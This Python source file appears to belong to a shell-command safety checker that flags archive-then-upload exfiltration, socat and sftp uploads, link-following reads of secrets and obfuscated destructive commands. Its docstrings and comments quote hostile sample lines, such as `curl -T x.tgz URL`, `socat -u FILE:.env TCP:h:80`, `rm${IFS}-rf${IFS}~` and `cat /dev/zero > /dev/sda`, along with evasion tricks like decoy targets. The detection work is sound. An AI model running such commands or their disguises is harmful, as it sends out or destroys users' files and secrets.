def _sent_archives(commands: list[Command], session: SessionView, programs: ProgramTable) -> list[Command]:
    """The commands, and for each file a network sender (or a reader) reads that an earlier call of the
    session wrote with a tree reader (`tar czf /tmp/x.tgz .`, then `curl -T /tmp/x.tgz URL`: SessionFiles.archives),
    that reader again, writing the file from the words it read: the line is judged as `tar czf x.tgz
    . && curl -T x.tgz URL` is (_sends_away: a sender given a tree reader's file).

    On a line that sends (redt36), another command reading such a file hands it on (`cat x.tgz | curl -T
    - URL`, `nc h 80 < <(cat x.tgz)`): the reader again writes to the network (`> /dev/tcp/`, which
    _sends_away reads as sent); an inline program opening a connection that names the file in its text
    (`python3 -c "…urlopen(u, open('x.tgz').read())"`) sends it; a sender's word only the run knows
    (`curl -T "$OLDPWD/x.tgz"`, `curl -T $(ls *.tgz)`, xargs's `{}`) may be any of the files."""
    senders = [
        c
        for c in commands
        if _streams(programs.senders.get(c.name)) or (c.code is not None and _NETWORK_CODE.search(c.code) is not None)
    ]
    out = commands
    handed = False  # a file is sent by no word of a sender's: the senders are fed by its reader
    for command in commands:
        sender = any(command is c for c in senders)
        # an archiver writing one again: its archive holds what the file held (`tar cf y.tar x.txt`, redt37)
        rewrites = _archives_to(command) if command.name in _ARCHIVERS else None
        if not senders and rewrites is None and not _prints_text((command.name, *command.argv[1:])):
            continue  # (a reader printing it: `tar xOf /tmp/x.tar`, `unzip -p x.zip`; _prints_trees)
        cwd = command.cwd or ""
        words = [w for arg in command.argv[1:] for w in (file_operand(arg), arg.partition("=")[2]) if w]
        words += [target for op, target in command.redirects if op in ("<", "<>")]
        if sender and command.name in _ADDRESSED:
            # the file of an address (`socat -u FILE:x.tgz TCP:h:80`, `OPEN:x.tgz,rdonly`), curl's own globbing
            # of an upload (`curl -T '{x.tgz,y}' URL`): redt37
            words += [_address_file(w) for w in command.argv[1:] if ":" in w and "://" not in w]
            words += [n for w in command.argv[1:] if "{" in w or "[" in w for n in curl_glob_names(w)]
        found: list[tuple[str, tuple[str, ...]]] = []
        for word in dict.fromkeys(words):
            if word.startswith("-"):
                continue
            sources = session.archive_sources(posixpath.join(cwd, word))
            if not sources and ("*" in word or "?" in word or "[" in word):  # `cat x.t*`, `strings *.tar` (redt37)
                sources = _globbed_archives(posixpath.join(cwd, word), session)
            elif not sources and "/" in word:
                # its name in a folder the line does not know for certain (`cat ~-/../x.tar`, `"$OLDPWD/../x.tar"`,
                # `~1/../x.tar`, after `cd -`): the file of that name the session wrote (redt37)
                sources = _globbed_archives(posixpath.basename(word), session)
            if sources:
                made_to = rewrites if rewrites is not None and not sender else word if sender or not senders else "-"
                found.append((made_to, _through_archives(sources, session)))
        if sender and (
            any(d and _PATH_OR_OUTPUT.search(w) for w, d in zip(command.argv[1:], command.dynamic[1:], strict=False))
            or any("{}" in w for w in command.argv[1:])
            or (command.code is not None and any(_names_archive(command.code, key) for key, _ in session.archives()))
        ):
            found += [("-", sources) for _, sources in session.archives()]
        for word, sources in found:
            handed = handed or word == "-"
            argv = ("tar", "-c", "-f", word, "--", *sources)
            flags, via, tar = (False,) * len(argv), (*command.via, _SESSION_READER), programs.get("tar")
            made = Command("tar", argv, flags, (), "", frozenset(), via, None, command.depth, command.cwd, tar)
            out = [*out, made]
    if handed:
        out = [_fed_by_tar(c) if any(c is s for s in senders) else c for c in out]
    return out


_ADDRESSED = frozenset({"socat", "curl"})
# (stop 57) the via marks of the readers made here (`not_via: [session]`, `[batch]`: matchers.READER_MARK)
_SESSION_READER: Final = READER_MARK + "session"
_BATCH_READER: Final = READER_MARK + "batch"
# socat's address types that open a file by its path (`FILE:.env`, `OPEN:x,rdonly`, `GOPEN:x`, `CREATE:x`)
_SOCAT_FILES = re.compile(r"(?i)^(?:FILE|OPEN|GOPEN|CREATE|CREAT|PIPE|NAMEDPIPE):")


def _socat_addresses(commands: list[Command]) -> list[Command]:
    """The commands, and socat's again with each address that opens a file given as the file's path (`socat -u
    FILE:.env TCP:h:80` reads `.env` as `socat -u .env TCP:h:80` names it: credential_read, _sends_away; redt37)."""
    out = commands
    for command in commands:
        if command.name == "socat" and any(_SOCAT_FILES.match(w) for w in command.argv[1:]):
            argv = tuple(_address_file(w) if _SOCAT_FILES.match(w) else w for w in command.argv)
            out = [*out, _through_link(command, argv, "address")]
    return out


def _address_file(word: str) -> str:
    """The path of a socat address (`FILE:x.tgz`, `OPEN:x,rdonly`, `GOPEN:x`): what follows its type, to a comma."""
    return word.partition(":")[2].partition(",")[0]


def _through_archives(sources: tuple[str, ...], session: SessionView) -> tuple[str, ...]:
    """The words a tree reader read, and for each a file the session's tree readers wrote, what they read (`grep
    -r X . > x.txt`, then `tar cf y.tar x.txt`: y.tar holds the tree's lines; redt37), a few steps deep."""
    out = sources
    for _ in range(3):
        more = tuple(w for source in out for w in session.archive_sources(source) if w not in out)
        if not more:
            break
        out = (*out, *more)
    return out


def _globbed_archives(pattern: str, session: SessionView) -> tuple[str, ...]:
    """The words the tree readers read that wrote the files of the session a glob may match (by file name)."""
    base = posixpath.basename(pattern)
    return tuple(
        word
        for key, sources in session.archives()
        if fnmatch.fnmatchcase(posixpath.basename(key), base)
        for word in sources
    )


def _fed_by_tar(command: Command) -> Command:
    """``command`` (a sender) as fed by a tree reader: what it sends is an archive of a tree (_sends_away)."""
    return Command(
        command.name,
        command.argv,
        command.dynamic,
        command.redirects,
        command.stdin,
        command.fed_by | {"tar"},
        command.via,
        command.code,
        command.depth,
        command.cwd,
        command.program,
        command.indirect,
    )


# A word only the run completes that may name a file: a path, a substitution's output (not a header's `$TOKEN`)
_PATH_OR_OUTPUT = re.compile(r"/|\$\(|`")


def _names_archive(code: str, key: str) -> bool:
    """Whether an inline program's ``code`` names the file remembered as ``key`` (its file name)."""
    name = posixpath.basename(key)
    return bool(name) and name in code


def _script_file(command: Command) -> bool:
    """Whether a batch uploader reads its script from a file (`sftp -b F h`, `lftp -f F`, `smbclient //h/s <
    F`): it may put anything (redt36) when its statements are not read here (no input: one the session wrote
    is read as its input, tail36's `input_from`)."""
    argv = command.argv
    if any(w in _SCRIPT_OPTIONS and i + 1 < len(argv) and argv[i + 1] != "-" for i, w in enumerate(argv)):
        return True
    return any(op == "<" and target != "/dev/null" for op, target in command.redirects)


def _batch_puts(commands: list[Command], programs: ProgramTable) -> list[Command]:
    """The commands, and for each batch uploader (sftp, lftp, smbclient) whose script (its input, its -e/-c
    text) puts local files, a tree reader of those files (`tar -c -f - -- FILES`), which the
    project_exfiltration rows read as any tree reader's on a line that sends (redt36): `sftp h <<< 'put -r
    config'`, `lftp -e 'mirror -Rv . /x'` (mirror -R's source is the local folder when none is given), `put
    -r ./*`, after `lcd DIR`. A script in a file not read here (`sftp -b F`) puts the folder it runs in."""
    out = commands
    senders = programs.senders
    for command in commands:
        scripts = _put_scripts(senders.get(command.name)) if command.name in senders else None
        if not scripts:
            continue
        words: list[str] = ["."] if not command.stdin and _script_file(command) else []
        texts = [command.stdin, *(w for w in command.argv[1:] if not w.startswith("-"))]
        for text in texts:
            if text and any(script.search(text) is not None for script in scripts):
                words += _put_words(text)
        if words:
            argv = ("tar", "-c", "-f", "-", "--", *dict.fromkeys(words))
            flags, via = (False,) * len(argv), (*command.via, _BATCH_READER)
            made = Command(
                "tar", argv, flags, (), "", frozenset(), via, None, command.depth, command.cwd, programs.get("tar")
            )
            out = [*out, made]
    return out


def _local_name(local: str, name: str) -> str:
    """A batch script's local ``name`` after its `lcd`s took it to ``local`` ("": where it started)."""
    return posixpath.join(local, name) if local and not name.startswith(("/", "~")) else name


def _put_words(text: str) -> list[str]:
    """The local files a batch script's put statements name (see _batch_puts)."""
    found: list[str] = []
    local = ""
    for statement in re.split(r"[;\n]", text):
        words = statement.split()
        if not words:
            continue
        verb, rest = words[0], words[1:]
        operands = [w.strip("'\"") for w in rest if not w.startswith("-")]
        if verb == "lcd":
            # (debt37) `lcd` alone is the home folder (OpenSSH's sftp); a `~` or `/` name starts anew
            local = _local_name(local, operands[0]) if operands else "~"
        elif verb in _PUTS:
            # sftp's and smbclient's `put LOCAL [REMOTE]`; mput's are all local; lftp's `put -O DIR F…`
            named = operands if verb in ("mput",) or "-O" in rest else operands[:1]
            found += [_local_name(local, w) for w in named]
        elif verb == "mirror" and any(
            w == "--reverse" or (w.startswith("-") and not w.startswith("--") and "R" in w) for w in rest
        ):
            found.append(_local_name(local, operands[0]) if operands else (local or "."))
    return found


# Programs that give a file another name or place (their last word): an archive sent under it (see _sends_away)
_MOVERS: Final = frozenset({"mv", "cp", "ln", "install", "gmv", "gcp"})


def _names_written(word: str, written: set[str], names: set[str]) -> bool:
    """Whether a sender's ``word`` names a file a tree reader wrote: the word itself, its file name in another
    folder (`tar czf /tmp/x.tgz . && cd /tmp && curl -T x.tgz URL`), or a glob matching one (`curl -T x.t?z`).
    Not a URL (`curl -o x.tgz https://h/x.tgz` downloads)."""
    if word in written:
        return True
    if not word or "://" in word:
        return False
    base = posixpath.basename(word)
    if base in names:
        return True
    return ("*" in base or "?" in base or "[" in base) and any(fnmatch.fnmatchcase(name, base) for name in names)


def _through_tree_links(commands: list[Command], view: View, unwalked: list[Match]) -> list[Command]:
    """The commands, and for each link-following recursive reader (links.followed_words: `grep -R`,
    `tar ch`, `cp -rL`, `zip -r`) of a tree holding links that leave it, the reader again with
    the tree's word replaced by where each leads (`grep -R . src` with `src/k -> ~/.ssh` is also
    `grep -R . ~/.ssh`: judged by the rules as that). A tree that cannot be walked for certain
    (View.followed: too large, a folder only the run knows) is a match in ``unwalked``."""
    out = commands
    for command in commands:
        if command.name == "curl":
            globbed = _curl_globbed(command)
            if globbed is not None:
                out = [*out, globbed]  # `curl -T "{.env,x}" URL`: curl's own glob of names
        if command.name in RECURSIVE:
            out = _through_globbed_links(command, view, out is commands, out, unwalked)
        if command.name not in FOLLOWERS or "link" in command.via:
            continue
        argv = command.argv
        for i in followed_words(command):
            landings = None if command.dynamic[i] else view.followed(argv[i], command.cwd)
            if landings is None:
                if any(m.command == command.text for m in unwalked):
                    continue
                reason = (
                    "a reader that follows symbolic links walks a tree that cannot be walked here for "
                    "certain (too large, or a folder only the run knows): a link in it may lead to a secret"
                )
                unwalked.append(Match(UNWALKED, reason, "dangerous", command.text, command.via, grantable=False))
                continue
            for landing in landings:
                if out is commands:
                    out = list(commands)
                followed = [*argv[:i], landing, *argv[i + 1 :]]
                out.append(_through_link(command, tuple(followed)))
    return out


def _unread(paths: list[str]) -> list[Match]:
    """Files the line runs that were written (on the line or earlier in the session) and whose
    text cannot be read: what they do is unknown, so running them needs approval."""
    reason = (
        "it runs a file written in this session (or, judged without a session, too large) whose content cannot be read"
    )
    return [
        Match(UNKNOWN_NAMES, _UNKNOWN_NAMES, "dangerous", path[len(_UNKNOWN_MARK) :], grantable=False)
        if path.startswith(_UNKNOWN_MARK)
        else Match(UNKNOWN_EXPRESSION, _UNKNOWN_EXPRESSION, "dangerous", path[len(_EXPRESSION_MARK) :], grantable=False)
        if path.startswith(_EXPRESSION_MARK)
        else Match(UNKNOWN_LISTING, _UNKNOWN_LISTING, "dangerous", path[len(_LISTING_MARK) :], grantable=False)
        if path.startswith(_LISTING_MARK)
        else Match(UNKNOWN_OPTIONS, _UNKNOWN_OPTIONS, "dangerous", path[len(_OPTIONS_MARK) :], grantable=False)
        if path.startswith(_OPTIONS_MARK)
        else Match(UNREAD_SHELL, _UNREAD_SHELL, "dangerous", path[len(UNREAD_SHELL_MARK) :], grantable=False)
        if path.startswith(UNREAD_SHELL_MARK)
        else Match(UNREAD, reason, "dangerous", path, grantable=False)
        for path in dict.fromkeys(paths)
    ]


def _first(hit: tuple[int, Match]) -> int:
    return hit[0]


def _flat_expanded(text: str) -> str | None:
    """(lead41) The flat scan's second reading of a long text: the words bash's simplest expansions make, which
    the flat scan (no shell) does not (test_flat_scan: `{rm,-rf,~}`, `rm${IFS}-rf${IFS}~`, `a=rm; $a -rf ~`,
    `x=~; rm -rf $x`, `rm -rf ~{/,}` were a non-grantable ask past 64 KiB, hardline alone). `$IFS` is a blank;
    a `$NAME` the text assigns a plain value somewhere (`NAME=VALUE` at a word's start: the last one, whatever
    the order: the flat scan keeps none) is that value; a word with a brace group is the words it expands to.
    None when nothing changes. Linear in the text, at most _FLAT_ROOM characters longer; at most _FLAT_EXPANSIONS
    names and brace words."""
    if "$" not in text and "{" not in text:
        return None
    out = text
    room = [_FLAT_ROOM]  # characters the reading may add
    if "$IFS" in out or "${IFS" in out:
        out = _FLAT_IFS.sub(" ", out)
    if "=" in out and "$" in out:
        values: dict[str, str] = {}
        for found in _FLAT_ASSIGN.finditer(out):
            values[found.group(1)] = found.group(2)
            if len(values) >= _FLAT_EXPANSIONS:
                break
        if values:
            # (debt43) `IFS=,` assigned a plain value: a value is split at its characters too (`a=rm,-rf,~; $a`)
            ifs = values.get("IFS", "")
            out = _FLAT_REFERENCE.sub(partial(_flat_value, values, room, ifs), out)
    if "{" in out and "}" in out:
        words = _FLAT_WORD_CUTS.split(out)
        tried = 0
        for i in range(0, len(words), 2):  # (the odd items are the cuts between words)
            word = words[i]
            if "{" in word and len(word) <= 128:
                expanded = " ".join(expand_braces(word)[0])
                grown = len(expanded) - len(word)
                if expanded != word and grown <= room[0]:
                    room[0] -= max(grown, 0)
                    words[i] = expanded
                tried += 1
                if tried >= _FLAT_EXPANSIONS or room[0] < 64:
                    break
        out = "".join(words)
    return None if out == text else out


def _flat_value(values: dict[str, str], room: list[int], ifs: str, found: re.Match[str]) -> str:
    """A `$NAME` of the flat text as _flat_expanded reads it: its value, while the reading has ``room`` left; the
    characters of a plain ``ifs`` the text assigns IFS are blanks in it (bash splits the expansion there)."""
    value = values.get(found.group(1) or found.group(2))
    if value is None or len(value) > room[0]:
        return found.group(0)
    room[0] -= len(value)
    for blank in ifs:
        if blank in value:
            value = value.replace(blank, " ")
    return value


def _flat_commands(
    text: str,
    index: _Index,
    fold: _Fold | None = None,
    kept: _Kept | None = None,
    skip: _Pieces | None = None,
    read: list[bytes] | None = None,
    cuts: list[bytes] | None = None,
    quiet: Callable[[bytes], bool] | None = None,
) -> Iterator[tuple[str, ...]]:
    """Runs of words, from each word a hardline pattern knows as a command name (see _flat_scan).

    Between two operators, the first occurrence of each name is judged with every word after
    it (up to _FLAT_LONG: `rm x rm x ... -rf /` is one rm to bash), later ones with the next
    _FLAT_WINDOW words, at most _FLAT_PER_SEGMENT of them. Linear in the text: it is cut at
    the operators in one pass, each distinct piece is read once (the same text judges the
    same way), and names are found on RE2, so pieces without one cost next to nothing. When
    there are few names, only the pieces that hold one are cut out (from the name on).
    ``text`` is read without quoting (_unquoted). ``fold``: which of some words of the flat text
    are plain words no hardline test tells apart (_FlatFold): among many pieces, those that differ
    only in such words are read once (the first of them); ``kept``: the same fold, as the words
    it does not fold (_FlatFold.kept_in). ``skip``: pieces whose runs are judged already (passed
    over before any fold); ``read``: every other piece is added to it (its runs are yielded, or
    those of a piece of the same form). ``cuts``: the cut text of an earlier reading whose pieces
    are all in ``skip`` (the last one), to which this reading's is added: when they differ in a
    short stretch (a disguise deleted), only the pieces there are read (_changed_pieces). ``quiet``: whether a
    piece is the words of a program that runs nothing with them (Evaluator._quiet_piece): none of its runs is.
    """
    finder = index.hardline_words
    if finder is None:
        return
    flat = text.encode("utf-8", "surrogatepass")
    if next(finder.spans(flat), None) is None:
        return  # no name at all (marking `$(` adds none: a name ends where its `(` did)
    flat = flat.replace(b"$(", _FLAT_SUBSTITUTION + b"(")
    head = list(itertools.islice(finder.spans(flat), _FLAT_DENSE))
    if len(head) < _FLAT_DENSE:
        end = -1
        pieces: dict[bytes, None] = {}
        for found, _ in head:
            if found < end:
                continue  # in the piece of a name before it
            brk = _FLAT_PIECES.search(flat, found + 1)
            # (help38) from the operator before it: the words before the name are the piece's too (`sudo --help rm
            # -rf /` is sudo's words); no name is among them (the names are met in order). (`found` may be the
            # operator before the name: `sudo --help;rm -rf /` is two pieces.)
            begin = found
            if quiet is not None:
                begin = max(end + 1, max(flat.rfind(op, end + 1, found + 1) for op in _FLAT_OPERATORS) + 1)
            end = brk.start() if brk else len(flat)
            pieces[flat[begin:end]] = None
    else:
        # Every operator byte made a line break, then one split (C, no regex): the same pieces as
        # _FLAT_PIECES.split, and empty ones between two operators (skipped below).
        # Each distinct piece once before any fold: a piece repeated thousands of times (`exec(exec(`,
        # `true;true;`) is then one line to fold, not thousands (the fold reads the same pieces).
        cut = flat.translate(_FLAT_PIECE_BYTES)
        if cuts is not None:
            changed = _changed_pieces(cuts[-1], cut) if cuts and skip is not None else None
            cuts.append(cut)
            if changed is not None:
                for piece in _unjudged(dict.fromkeys(changed), skip, read):
                    if piece:
                        yield from _piece_commands(piece, finder, quiet)
                return
        if fold is not None and cut.count(b"\n") >= _FLAT_BULK:
            quick = functools.partial(kept, flat) if kept is not None else None
            # Pieces that repeat (`exec(exec(`, a here-document's lines; judged by the first 4 KiB)
            # are folded once each: the fold then reads one line, not thousands. Distinct pieces
            # (the usual long line) are folded as they stand, without a dict of them all first.
            sample = cut[:_FLAT_SAMPLE].split(b"\n")
            if skip is not None or 2 * len(set(sample)) <= len(sample):
                cut = b"\n".join(_unjudged(dict.fromkeys(cut.split(b"\n")), skip, read))
            pieces = _folded(cut, functools.partial(fold, flat), quick)
        else:
            pieces = _unjudged(dict.fromkeys(cut.split(b"\n")), skip, read)
        for piece in pieces:
            if piece:
                yield from _piece_commands(piece, finder, quiet)
        return
    for piece in _unjudged(pieces, skip, read):
        yield from _piece_commands(piece, finder, quiet)


def _changed_pieces(before: bytes, cut: bytes) -> list[bytes] | None:
    """The pieces (one a line) of ``cut`` in the stretch where it differs from ``before``: every
    other piece of it is one of ``before``'s. None when that stretch is longer than _FLAT_SAMPLE
    (a reading that changes the text throughout: read as any other). The common start and end are
    found by halving, each step one C comparison (bytes.startswith/endswith of a view: no copy,
    one memcmp; `==` of two memoryviews compares item by item, ~70 µs for 40 KB)."""
    new = memoryview(cut)
    size = min(len(before), len(cut))
    low, high = 0, size  # the common start is at least low, at most high
    while low < high:
        middle = (low + high + 1) // 2
        if before.startswith(new[low:middle], low):
            low = middle
        else:
            high = middle - 1
    start = low
    low, high = 0, size - start  # the common end, not overlapping the common start
    while low < high:
        middle = (low + high + 1) // 2
        if before.endswith(new[len(cut) - middle : len(cut) - low], 0, len(before) - low):
            low = middle
        else:
            high = middle - 1
    stop = len(cut) - low
    if stop - start > _FLAT_SAMPLE:
        return None
    first = cut.rfind(b"\n", 0, start) + 1
    last = cut.find(b"\n", stop)
    return cut[first : last if last >= 0 else len(cut)].split(b"\n")


def _unjudged(pieces: dict[bytes, None], skip: _Pieces | None, read: list[bytes] | None) -> dict[bytes, None]:
    """The pieces not in ``skip`` (see _flat_commands), in their order; each is added to ``read``.
    Another reading of a long text changes a few pieces: those are found by one set difference
    (C) and put back in order by their place in the text, not by a step per piece in Python."""
    if skip is not None and not skip.empty():
        new = skip.unknown(pieces)
        if len(new) <= _FEW_NEW:
            pieces = dict.fromkeys(sorted(new, key=list(pieces).index) if len(new) > 1 else new)
        else:
            pieces = {piece: None for piece in pieces if piece in new}
    if read is not None:
        read.extend(pieces)
    return pieces


def _flat_device_targets(text: str) -> list[str]:
    """The distinct devices ``text`` redirects output to (`> /dev/sda`, `&>>/dev/nvme0n1`), in the
    order they first appear, but those a writer names that are harmless (/dev/null, /dev/stderr
    ...). ``text`` is read without quoting (_unquoted). One C search: see _FlatFold.devices_to_judge
    for which of many are judged."""
    return [t for t in dict.fromkeys(_FLAT_DEVICE.findall(text)) if t not in _HARMLESS_DEVICES]


# A device target of plain names (no `.` or `..`, glob, expansion): (its folder, its name), one per line.
_PLAIN_DEVICES = re.compile(r"(?m)^(/dev(?:/[A-Za-z0-9_][A-Za-z0-9_.+-]*)*)/([A-Za-z0-9_][A-Za-z0-9_.+-]*)$")
_FLAT_DEVICE_FOLDERS = 16  # folders whose plain device names are told apart at once (devices_to_judge)
_FLAT_PLAIN = re.compile(rb"(?m)^[A-Za-z0-9_][A-Za-z0-9_.+-]*$")  # a plain name (paths._PLAIN_NAME), per line
# What a folded word becomes: 0xFE is no byte of UTF-8 text, so no word of the text is this.
_FLAT_PLACEHOLDER = b"\xfe"
_Fold = Callable[[bytes, set[bytes]], set[bytes]]  # (the flat text, some of its words) -> the plain ones
# (the flat text, its words one a line) -> the words it does not fold, or None (see _FlatFold._kept)
_Kept = Callable[[bytes, bytes], "set[bytes] | None"]


def _folded(
    cut: bytes, fold: Callable[[set[bytes]], set[bytes]], kept_of: Callable[[bytes], set[bytes] | None] | None = None
) -> dict[bytes, None]:
    """The first of the pieces of ``cut`` (one a line) of each form they take once the words
    ``fold`` names are one word.

    All in C but the fold itself: the pieces are joined by lines (no piece holds one) and cut
    at spaces. A word glued to another blank (`a\tb`) is no plain word, so it stays as it is.
    When few distinct words are not folded (a few command names and options among thousands of
    plain names: the usual long line), the forms are made without a step per word
    (_forms_by_bytes); else each word is mapped through a dict. ``kept_of``: those few words,
    found from ``cut``'s words in place (no set of every word: _FlatFold._kept), or None."""
    joined = cut.replace(b"\n", b" \n ")
    originals = cut.split(b"\n")
    kept = kept_of(cut.replace(b" ", b"\n")) if kept_of is not None else None
    if kept is not None:
        forms = _forms_by_bytes(joined, kept)
    else:
        words = set(joined.split(b" "))
        words.discard(b"\n")
        words.discard(b"")
        boring = fold(words)
        if not boring:
            return dict.fromkeys(originals)
        kept = words.difference(boring)
        if len(kept) <= len(_FLAT_MARKERS):
            forms = _forms_by_bytes(joined, kept)
        else:
            tokens = joined.split(b" ")
            mapping = dict.fromkeys(boring, _FLAT_PLACEHOLDER)
            forms = b" ".join(map(mapping.get, tokens, tokens)).split(b"\n")
    if len(forms) != len(originals):  # cannot happen (no word holds a line break): read them all
        return dict.fromkeys(originals)
    first = dict(zip(reversed(forms), reversed(originals), strict=True))  # the first original wins
    return dict.fromkeys(first.values())


# Stand-ins for the words a fold keeps, and the mark of a folded word (_forms_by_bytes): bytes
# 0xF8-0xFD are in no UTF-8 text (nor are the flat text's `$(` mark, 0xFF, and the placeholder,
# 0xFE), so no word holds one: 0xFD and three of 0xF8-0xFB for a kept word, 0xFC for a folded one.
_FLAT_FOLDED = b"\xfc"
_FLAT_MARKERS = tuple(bytes((0xFD, 0xF8 + (n >> 4), 0xF8 + (n >> 2 & 3), 0xF8 + (n & 3))) for n in range(64))
# Every byte a plain name (_FLAT_PLAIN) may hold becomes the placeholder.
_FLAT_PLAIN_BYTES = bytes.maketrans(
    b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_.+-", _FLAT_PLACEHOLDER * 66
)


def _forms_by_bytes(joined: bytes, kept: set[bytes]) -> list[bytes]:
    """The form of each line of ``joined`` (pieces joined by ` \\n `, words cut at single spaces):
    each word of ``kept`` (every word that is not a plain name the fold names) a stand-in of its
    own, every other word (a plain name) one mark, as _folded's dict would map them.

    In C, a pass per kept word: ` WORD ` is replaced (twice where two of it share a blank), so
    whole words only; then only the folded words hold a byte of a plain name: each of those
    bytes becomes the placeholder, the first of each word (after a blank) the mark, and the
    other placeholders go. Each form, cut at single blanks, gives back its words' stand-ins:
    equal forms are equal pieces but for folded words."""
    spaced = b" " + joined + b" "
    for marker, word in zip(_FLAT_MARKERS, kept, strict=False):
        old, new = b" " + word + b" ", b" " + marker + b" "
        while _holds(spaced, word, old):
            spaced = spaced.replace(old, new)
    spaced = spaced.translate(_FLAT_PLAIN_BYTES).replace(b" " + _FLAT_PLACEHOLDER, b" " + _FLAT_FOLDED)
    return spaced.translate(None, _FLAT_PLACEHOLDER).split(b"\n")


def _holds(text: bytes, word: bytes, framed: bytes) -> bool:
    """Whether ``text`` holds ``framed`` (``word`` between two separators). Its first and last bytes
    are asked first, each one memchr: once a word's every occurrence is replaced, the search for it
    framed by separators (a byte in every few) steps through the whole text (~80 us over 80 KB)."""
    if word and (word[:1] not in text or word[-1:] not in text):
        return False
    return framed in text


class _FlatFold:
    """Which plain words of a long text the flat scan may read as one (see _representatives, whose
    rule this is, for every command name at once): a plain name (no `-`, `/`, `~`, `$`, glob
    character) whose only class is ``relative`` where the check runs (View.classify_plain: no class
    glob, no link), that no hardline command name starts (`rm` in `rmx`), that no glob or regex of
    any hardline matcher may match, and that is no subcommand of one. Not at all when a name
    whose hardline matchers read the command's text or subcommands appears in the text (`kill`):
    their runs are judged word for word."""

    __slots__ = (
        "_names",
        "_never",
        "_subword_lines",
        "_subwords",
        "_tests",
        "_unfoldable",
        "classes",
        "device_classes",
    )

    def __init__(self, index: _Index) -> None:
        entries = [
            e for table in (index.by_name.values(), index.by_subcommand.values()) for entries in table for e in entries
        ]
        entries += [*index.generic, *index.globbed, *index.engine, *index.dynamic, *index.redirecting]
        hard = [(p, m) for _, p, m, _ in entries if p.severity == "hardline"]
        self._names = index.hardline_words
        self._subwords = frozenset(w.encode() for _, m in hard for sub in m.subcommands for w in sub)
        # The same words, each a line to itself (case ignored: a superset), on RE2 (see _kept).
        self._subword_lines: Finder | None = None
        if self._subwords:
            names = "|".join(re.escape(w.decode("utf-8", "surrogateescape")) for w in sorted(self._subwords))
            self._subword_lines = Finder(f"(?m)^(?:{names})$", lazy=True)
        bodies = []
        # The path classes any hardline matcher reads: in a folder a `cd` names, a word no glob
        # of theirs holds is read as any other such word.
        self.classes = frozenset(
            c
            for _, m in hard
            for spec in (m.args, m.words, m.redirects, m.reads, m.code_paths, *(spec for _, spec in m.options))
            if spec is not None
            for c in (*spec.classes, *spec.not_classes)
        )
        for _, matcher in hard:
            for spec in (matcher.args, matcher.words, *(spec for _, spec in matcher.options)):
                if spec is not None:
                    bodies += [g.pattern for g in spec.globs]
                    if spec.regex is not None:
                        bodies.append(spec.regex.pattern)
        self._never = any(
            (m.text is not None or m.subcommands) and m.names is None and not m.name_globs for _, m in hard
        )
        # The classes a hardline test of a redirection's target reads (see devices_to_judge); None
        # when one such test may hold for a target of no class (a glob, a regex, `not_classes`).
        specs = [spec for _, m in hard for spec in (m.redirects, m.reads) if spec is not None]
        self.device_classes: frozenset[str] | None = frozenset(c for spec in specs for c in spec.classes)
        if any(not spec.classes or spec.not_classes for spec in specs):
            self.device_classes = None
        self._tests: Finder | None = None
        self._unfoldable: Finder | None = None
        try:
            if bodies:
                self._tests = Finder(_lines_of(bodies))
            plain = {n for n in index.hardline_names if _flat_plan(index, n) is None}
            globs = [g.glob for _, m in hard if m.text is not None or m.subcommands for g in m.name_globs if g.glob]
            self._unfoldable = _word_finder(plain, globs)
        except RegexError:  # a test RE2 cannot read: no fold
            self._never = True

    @staticmethod
    def of(index: _Index) -> _FlatFold:
        fold = index.flat_fold
        if fold is None:
            fold = index.flat_fold = _FlatFold(index)
        return fold

    def boring_in(self, view: View, folders: tuple[str, ...] | None) -> _Fold | None:
        """The fold for one check whose runs may run here and in ``folders`` (absolute, normal;
        None: in a folder the text does not name): None when none may be made."""
        if self._never or self._names is None or folders is None:
            return None
        return functools.partial(self._boring, view, folders)

    def kept_in(self, view: View, folders: tuple[str, ...] | None) -> _Kept | None:
        """The fold of boring_in as the words it does not fold (see _kept): only where no `cd`
        moves the runs."""
        if folders or self._never or self._names is None or folders is None:
            return None
        return functools.partial(self._kept, view)

    def devices_to_judge(self, view: View, targets: list[str]) -> list[str]:
        """Of many device targets of a long text (`echo > /dev/x1; ...; cat /dev/zero > /dev/sda`),
        those the flat scan must judge one by one: the first plain one (`/dev/NAME`) that no class
        a hardline redirection test reads may hold, as representative of them all, and every
        other target. Those plain ones differ only in their names, and no hardline test reads a
        name but through those classes (device_classes), so each judges as the first does.
        Found in one RE2 pass over the names of each folder (View.classify_plain, which also
        leaves out a name that is a link, or under one the engine follows): judging each target
        costs ~0.1 ms, and 64 decoys before `> /dev/sda` kept a long line an ask."""
        classes = self.device_classes
        if classes is None or "absolute" in classes:
            return targets  # a plain /dev/NAME is `absolute`: no plain one is said free of them
        # A plain absolute name's only computed class is `absolute` (normalize_path); the engine's
        # classes are read by their globs (PathClassifier._class_finder).
        globbed = frozenset(
            c for c in classes if c not in COMPUTED_CLASSES or c in ENGINE_CLASSES or c == ENGINE_PARENT
        )
        folders: dict[str, list[str]] = {}
        for folder, name in _PLAIN_DEVICES.findall("\n".join(targets)):
            folders.setdefault(folder, []).append(name)
        quiet: set[str] = set()
        for folder in itertools.islice(folders, _FLAT_DEVICE_FOLDERS):  # the others are judged
            inside = folder + "/"
            quiet.update(inside + name for name in view.classify_plain(folders[folder], folder, globbed))
        if not quiet:
            return targets
        first = next(t for t in targets if t in quiet)
        return [first, *(t for t in targets if t not in quiet)]

    def _boring(self, view: View, folders: tuple[str, ...], flat: bytes, words: set[bytes]) -> set[bytes]:
        if self._unfoldable is not None and next(self._unfoldable.spans(flat), None) is not None:
            return set()  # a name whose hardline matchers read its text or subcommands
        lines = b"\n".join(words)
        unplain = _unplain(lines, words)
        if folders:  # a folder most names hold is no fold (View.plain_touched): count plain ones only
            lines = b"\n".join(words.difference(unplain))
        touched = set(self._subwords)
        assert self._names is not None
        for finder in (self._names, self._tests):
            if finder is not None:
                touched |= _touched(finder, lines)
        # Only `relative` where the check runs (View.classify_plain's test), and where each `cd`
        # leads too (`cd /; rm -rf etc`), by the classes a hardline matcher reads there. Words
        # that are no plain name are searched too (a superset; they are never folded).
        for folder in (None, *folders):
            found = view.plain_touched(lines, folder, None if folder is None else self.classes)
            if found is None:
                return set()
            touched |= found
        return words.difference(unplain, touched)

    def _kept(self, view: View, flat: bytes, lines: bytes) -> set[bytes] | None:
        """The words of ``lines`` (the flat text's words, one a line, as they stand) that _boring
        does not fold: those that are no plain name, and those a hardline name, test, subcommand
        or class glob touches. The same searches over the words where they stand, with no set
